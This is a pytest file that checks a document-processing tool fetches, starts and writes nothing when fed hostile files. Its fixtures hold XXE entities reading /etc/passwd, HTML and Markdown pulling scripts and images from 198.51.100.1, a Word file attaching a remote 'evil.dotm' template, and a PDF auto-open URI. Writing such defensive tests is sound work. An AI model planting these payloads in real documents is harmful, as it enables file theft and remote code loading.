"""Whatever a file asks for: nothing is fetched, nothing started, nothing written elsewhere."""

import json
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest

from tests.support.documents import W, paragraph, zipped
from tests.support.hostile.files import FILES
from tests.support.hostile.texts import TEXTS, attacked
from tests.support.places import TESTS

WATCHED = TESTS / "support" / "hostile" / "watched.py"
ASKING = (
    *("external entity", "external DTD", "sheet is elsewhere", "sheet is outside"),
    *("external link", "path out of the folder", "absolute path", "bomb in an embedded workbook"),
    *("formula: DDE link", "formula: WEBSERVICE", "formula: HYPERLINK", "formula: external book"),
)
"""Those that ask for a file or a connection."""

LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCUMENTS: Mapping[str, bytes] = {
    "a.html": b'<!DOCTYPE a SYSTEM "http://198.51.100.1/a.dtd"><link rel=stylesheet '
    b"href=http://198.51.100.1/a.css><script src=http://198.51.100.1/a.js></script>"
    b"<img src=file:///etc/passwd><table><tr><td>1</table>",
    "a.md": b"![i](http://198.51.100.1/i.png)\n\n| a | 1 |\n|---|---|\n",
    "a.pdf": b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(http://198.51.100.1)>>"
    b"/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>",
    "a.docx": zipped(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": (
                '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
                f'<w:document xmlns:w="{W}"><w:body>{paragraph("&e;")}</w:body></w:document>'
            ).encode(),
        }
    ),
    "b.docx": zipped(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": (
                f'<w:document xmlns:w="{W}"><w:body>{paragraph("甲")}</w:body></w:document>'
            ).encode(),
            "word/_rels/document.xml.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="r" Type="{LINK}/attachedTemplate" TargetMode="External" '
                'Target="http://198.51.100.1/evil.dotm"/></Relationships>'
            ).encode(),
        }
    ),
}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    inside = tmp_path / "in"
    inside.mkdir()
    for number, name in enumerate(ASKING):
        (inside / f"{number}.xlsx").write_bytes(FILES[name][0]())
    typed = "\n".join(TEXTS.values())
    (inside / "typed.xlsx").write_bytes(attacked({"name": typed}, {"problems": typed}))
    for name, data in DOCUMENTS.items():
        (inside / name).write_bytes(data)
    return inside


def test_nothing_is_fetched_or_started_or_written_elsewhere(folder: Path, tmp_path: Path) -> None:
    ran = subprocess.run(
        [sys.executable, WATCHED, folder], capture_output=True, text=True, check=True, timeout=300
    )
    told = json.loads(ran.stdout)
    assert told["done"] == []
    assert len(told["codes"]) == told["run"] == 3 * (len(ASKING) + 1) + 2 * len(DOCUMENTS)
    assert set(told["codes"]) <= {0, 1, 2}
    assert [each.name for each in tmp_path.iterdir()] == ["in"]


def test_the_watch_sees_what_is_done(tmp_path: Path) -> None:
    script = (
        "import socket, subprocess, sys; from pathlib import Path\n"
        "from tests.support.hostile.watched import Watch\n"
        "watch = Watch(Path(sys.argv[1])); sys.addaudithook(watch)\n"
        "open(sys.argv[1] + '/in', 'w').close(); open(sys.argv[1] + '/../out', 'w').close()\n"
        "open('/etc/passwd').close(); subprocess.run([sys.executable, '-c', ''])\n"
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()\n"
        "print(sorted({event for event, _ in watch.done}), len(watch.done))"
    )
    (tmp_path / "a").mkdir()
    command = [sys.executable, "-c", script, str(tmp_path / "a")]
    ran = subprocess.run(command, capture_output=True, text=True, check=True, timeout=60)
    assert "'open', " in ran.stdout
    assert "'socket.__new__', 'subprocess.Popen'" in ran.stdout
    assert not ran.stdout.endswith(" 0\n")
